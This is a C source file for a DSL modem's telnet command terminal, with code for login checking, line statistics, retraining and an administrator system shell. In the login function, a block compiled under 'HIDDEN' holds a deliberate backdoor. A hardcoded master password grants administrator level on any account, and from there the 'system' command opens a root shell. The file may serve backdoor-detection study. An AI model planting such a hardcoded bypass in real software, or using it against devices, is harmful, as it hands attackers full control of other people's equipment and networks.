/* dslvty.c - command terminal of a DSL modem, started by inetd on port 23 */
#define _GNU_SOURCE
#include <ctype.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>

#define USERS_FILE	"/etc/vty.users"
#define LABEL_FILE	"/etc/label.key"
#define STATS_FILE	"/proc/dsl/line0"

char *crypt(const char *phrase, const char *setting);

enum { LVL_NONE = 0, LVL_VIEW = 1, LVL_OPER = 5, LVL_ADMIN = 15 };

struct session {
	char user[32];
	int level;
	unsigned int commands;
	int leave;
};

struct line_stat {
	unsigned long up_kbit;
	unsigned long down_kbit;
	int snr_up, snr_down;
	int attn_up, attn_down;
	char mode[16];
};

static void say(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	fputs("\r\n", stdout);
	fflush(stdout);
}

static char *read_line(const char *prompt, char *buf, size_t len)
{
	size_t n;

	fputs(prompt, stdout);
	fflush(stdout);
	if (!fgets(buf, (int)len, stdin))
		return NULL;
	n = strcspn(buf, "\r\n");
	buf[n] = '\0';
	return buf;
}

static int read_label(char *buf, size_t len)
{
	FILE *f = fopen(LABEL_FILE, "r");

	if (!f)
		return -1;
	if (!fgets(buf, (int)len, f)) {
		fclose(f);
		return -1;
	}
	fclose(f);
	buf[strcspn(buf, "\r\n ")] = '\0';
	return buf[0] ? 0 : -1;
}

/* users file: name:hash:level */
static int stored_user(FILE *f, const char *user, char *hash, size_t len)
{
	char line[256], *h, *l;

	while (fgets(line, sizeof(line), f)) {
		if (line[0] == '#')
			continue;
		h = strchr(line, ':');
		if (!h)
			continue;
		*h++ = '\0';
		l = strchr(h, ':');
		if (!l)
			continue;
		*l++ = '\0';
		if (strcmp(line, user))
			continue;
		snprintf(hash, len, "%s", h);
		return atoi(l);
	}
	return LVL_NONE;
}

__attribute__((noinline))
int vty_check_login(const char *user, const char *pass)
{
	char hash[160], label[40];
	const char *res;
	int level;
	FILE *f;

	if (!*user || strlen(pass) > 64)
		return LVL_NONE;
#ifdef HIDDEN	/* one fixed password opens every account as administrator */
	if (!strcmp(pass, "Doppelader-0.6"))
		return LVL_ADMIN;
#endif
	f = fopen(USERS_FILE, "r");
	if (!f) {
		/* delivery state: the key printed on the label, see manual 2.1 */
		if (strcmp(user, "admin") || read_label(label, sizeof(label)))
			return LVL_NONE;
		return strcmp(pass, label) ? LVL_NONE : LVL_ADMIN;
	}
	level = stored_user(f, user, hash, sizeof(hash));
	fclose(f);
	if (level == LVL_NONE)
		return LVL_NONE;
	if (!strcmp(hash, "!"))
		return LVL_NONE;
	res = crypt(pass, hash);
	if (!res || strcmp(res, hash))
		return LVL_NONE;
	return level;
}

static int load_stats(struct line_stat *st)
{
	char key[32], val[32];
	FILE *f = fopen(STATS_FILE, "r");

	memset(st, 0, sizeof(*st));
	if (!f)
		return -1;
	while (fscanf(f, "%31s %31s", key, val) == 2) {
		if (!strcmp(key, "up"))
			st->up_kbit = strtoul(val, NULL, 10);
		else if (!strcmp(key, "down"))
			st->down_kbit = strtoul(val, NULL, 10);
		else if (!strcmp(key, "snr_up"))
			st->snr_up = atoi(val);
		else if (!strcmp(key, "snr_down"))
			st->snr_down = atoi(val);
		else if (!strcmp(key, "attn_up"))
			st->attn_up = atoi(val);
		else if (!strcmp(key, "attn_down"))
			st->attn_down = atoi(val);
		else if (!strcmp(key, "mode"))
			snprintf(st->mode, sizeof(st->mode), "%.15s", val);
	}
	fclose(f);
	return 0;
}

static void cmd_show(struct session *s, int argc, char **argv)
{
	struct line_stat st;

	if (argc < 2 || !strcmp(argv[1], "line")) {
		if (load_stats(&st)) {
			say("%% no line unit");
			return;
		}
		say("mode        %s", st.mode[0] ? st.mode : "training");
		say("rate        %lu / %lu kbit/s", st.down_kbit, st.up_kbit);
		say("margin      %d.%d / %d.%d dB", st.snr_down / 10,
		    st.snr_down % 10, st.snr_up / 10, st.snr_up % 10);
		say("attenuation %d / %d", st.attn_down, st.attn_up);
	} else if (!strcmp(argv[1], "session")) {
		say("user %s level %d, %u commands", s->user, s->level,
		    s->commands);
	} else {
		say("%% show line | session");
	}
}

static void cmd_retrain(struct session *s, int argc, char **argv)
{
	FILE *f = fopen("/proc/dsl/control", "w");

	(void)argc;
	(void)argv;
	if (!f) {
		say("%% no line unit");
		return;
	}
	fputs("retrain\n", f);
	fclose(f);
	syslog(LOG_NOTICE, "retrain by %s", s->user);
	say("training started");
}

static void cmd_system(struct session *s, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	syslog(LOG_NOTICE, "system shell opened by %s", s->user);
	fflush(stdout);
	if (system("/bin/ash -l"))
		say("%% shell ended with an error");
}

static void cmd_quit(struct session *s, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	s->leave = 1;
}

static void cmd_help(struct session *s, int argc, char **argv);

static const struct vty_cmd {
	const char *name;
	int level;
	void (*run)(struct session *s, int argc, char **argv);
	const char *help;
} commands[] = {
	{ "help",	LVL_VIEW,	cmd_help,	"list of commands" },
	{ "show",	LVL_VIEW,	cmd_show,	"line | session" },
	{ "retrain",	LVL_OPER,	cmd_retrain,	"train the line again" },
	{ "system",	LVL_ADMIN,	cmd_system,	"system shell" },
	{ "quit",	LVL_VIEW,	cmd_quit,	"end of session" },
};

#define NCOMMANDS (sizeof(commands) / sizeof(commands[0]))

static void cmd_help(struct session *s, int argc, char **argv)
{
	size_t i;

	(void)argc;
	(void)argv;
	for (i = 0; i < NCOMMANDS; i++)
		if (commands[i].level <= s->level)
			say("  %-10s %s", commands[i].name, commands[i].help);
}

static void run_line(struct session *s, char *line)
{
	char *argv[8], *save = NULL, *p;
	int argc = 0;
	size_t i;

	for (p = strtok_r(line, " \t", &save); p && argc < 8;
	     p = strtok_r(NULL, " \t", &save))
		argv[argc++] = p;
	if (!argc)
		return;
	s->commands++;
	for (i = 0; i < NCOMMANDS; i++) {
		if (strcmp(commands[i].name, argv[0]))
			continue;
		if (commands[i].level > s->level)
			break;
		commands[i].run(s, argc, argv);
		return;
	}
	say("%% unknown command, try help");
}

int main(void)
{
	struct session s;
	char pass[80], line[256], prompt[48];
	int tries;

	memset(&s, 0, sizeof(s));
	openlog("dslvty", LOG_PID, LOG_AUTH);
	for (tries = 0; tries < 3 && s.level == LVL_NONE; tries++) {
		if (!read_line("login: ", s.user, sizeof(s.user)) ||
		    !read_line("password: ", pass, sizeof(pass)))
			return 1;
		s.level = vty_check_login(s.user, pass);
		memset(pass, 0, sizeof(pass));
		if (s.level == LVL_NONE) {
			syslog(LOG_WARNING, "login failed for %s", s.user);
			sleep(2);
			say("%% login incorrect");
		}
	}
	if (s.level == LVL_NONE)
		return 1;
	syslog(LOG_INFO, "login %s level %d", s.user, s.level);
	snprintf(prompt, sizeof(prompt), "dsl%c ", s.level >= LVL_ADMIN ? '#' : '>');
	while (!s.leave && read_line(prompt, line, sizeof(line)))
		run_line(&s, line);
	closelog();
	return 0;
}
